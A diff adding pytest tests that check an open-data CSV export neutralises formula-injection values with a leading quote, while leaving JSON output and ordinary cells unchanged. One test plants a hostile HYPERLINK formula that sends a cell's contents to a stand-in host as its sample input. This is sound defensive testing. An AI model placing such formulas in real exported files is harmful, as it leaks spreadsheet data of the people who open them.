@@ -75,3 +75,25 @@ def test_a_document_record_holds_every_field_of_the_document_block():
     from scripts.open_data.models import DocumentRecord
 
     assert set(DocumentRecord.model_fields) == (set(DocumentBlock.model_fields) - {"relations"}) | {"id", "title", "url"}
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised(catalogue, start):
+    """CSV (formula) injection: a value beginning like a formula gets a leading quote in the CSV only."""
+    data = copy.deepcopy(open_data.documents_data(catalogue, None))
+    record = next(d for d in data["documents"] if d["id"] == "ket-luan-21-kl-tw-2021")
+    hostile = f'{start}HYPERLINK("http://example.invalid/?x="&A1,"Bấm")'
+    record["subject"]["value"]["vi"] = hostile
+    header, rows = csv_rows(open_data.to_csv(data["documents"], open_data.DOCUMENT_COLUMNS))
+    row = next(r for r in rows if r["id"] == "ket-luan-21-kl-tw-2021")
+    assert row["subject_vi"] == "'" + hostile
+    assert record["subject"]["value"]["vi"] == hostile  # the JSON keeps the value as it is
+    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for value in r.values())
+
+
+def test_ordinary_csv_cells_are_left_alone(catalogue):
+    header, rows = csv_rows(open_data.to_csv(open_data.documents_data(catalogue, None)["documents"],
+                                             open_data.DOCUMENT_COLUMNS))
+    row = next(r for r in rows if r["id"] == "ket-luan-21-kl-tw-2021")
+    assert row["number"] == "21-KL/TW" and row["date"] == "2021-10-25"
+    assert not any(value.startswith("'") for r in rows for value in r.values())
